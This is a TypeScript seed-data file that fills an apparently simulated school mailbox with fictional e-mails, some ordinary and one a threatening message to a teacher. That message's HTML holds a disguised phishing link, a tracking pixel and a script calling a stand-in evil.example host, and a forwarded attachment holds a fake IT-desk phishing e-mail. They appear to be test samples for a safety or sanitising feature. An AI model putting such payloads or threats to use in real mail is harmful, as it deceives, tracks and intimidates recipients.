import { SCHOOL } from '../world/people';

/** An e-mail that lies in a mailbox when the school morning begins. */
export interface SeedMail {
  /** Whose mailbox, by address. */
  to: string;
  fromName: string;
  fromAddress: string;
  subject: string;
  html: string;
  minutesAgo: number;
  isRead?: boolean;
  attachment?: { name: string; contentType: string; text: string };
}

const at = (name: string): string => `${name}@${SCHOOL.domain}`;

/**
 * Believable and not lurid. The first is the nasty one: it threatens, and its HTML does what hostile e-mail does (a
 * script, a picture that reports who opened it, a link that says one thing and is another).
 */
export const SEED_MAIL: readonly SeedMail[] = [
  {
    to: at('a.osei'),
    fromName: 'x_anon_9b',
    fromAddress: 'x.anon.9b@quickpost.example',
    subject: 'everyone will see it',
    html:
      '<p>we know who told. by friday everyone in 9B sees the screenshots unless you make the marks go away.</p>' +
      '<p>ask Mia what happened last time someone told. <a href="https://evil.example/login">https://wrenhollow.example/portal</a></p>' +
      '<img src="https://track.evil.example/open.gif?to=osei" width="1" height="1"><script>fetch("https://evil.example")</script>',
    minutesAgo: 42,
    attachment: {
      name: 'screenshots.txt',
      contentType: 'text/plain',
      text: 'A list of file names, and no picture.\n',
    },
  },
  {
    to: at('a.osei'),
    fromName: 'Susan Pemberton',
    fromAddress: at('s.pemberton'),
    subject: 'Jack and his phone at night',
    html: '<p>Dear Ms Osei,</p><p>Jack has been up until two with his phone and will not say who he is writing to. Has anything been noticed at school? I would rather ask than guess.</p><p>Susan Pemberton</p>',
    minutesAgo: 190,
  },
  {
    to: at('a.osei'),
    fromName: 'Oliver Grantley',
    fromAddress: at('o.grantley'),
    subject: 'Museum trip: coaches',
    html: '<p>The coach company can do 8.40. Could you bring the consent forms on Thursday?</p>',
    minutesAgo: 1_500,
    isRead: true,
  },
  {
    to: at('online.safety'),
    fromName: 'Web filter',
    fromAddress: 'alerts@filter.example',
    subject: 'Daily summary: 3 blocked searches',
    html: '<p>Three searches were blocked on device LAB-14 between 11.05 and 11.20. Sign in to the filter to see them.</p>',
    minutesAgo: 75,
  },
  {
    to: at('online.safety'),
    fromName: 'Callum Byrne',
    fromAddress: at('c.byrne'),
    subject: 'FW: your account will be closed today',
    html: '<p>Four pupils and two teachers got this. It is not from us. I have blocked the sender.</p>',
    minutesAgo: 240,
    isRead: true,
    attachment: {
      name: 'original.eml',
      contentType: 'message/rfc822',
      text: 'From: "IT desk" <desk@evil.example>\r\nSubject: your account will be closed today\r\n\r\nSign in here to keep it.\r\n',
    },
  },
  {
    to: at('d.whitcombe'),
    fromName: 'Ruth Tanaka',
    fromAddress: at('r.tanaka'),
    subject: 'Assembly on group chats',
    html: '<p>Slides are in the team. Ten minutes, and time for questions.</p>',
    minutesAgo: 600,
  },
];
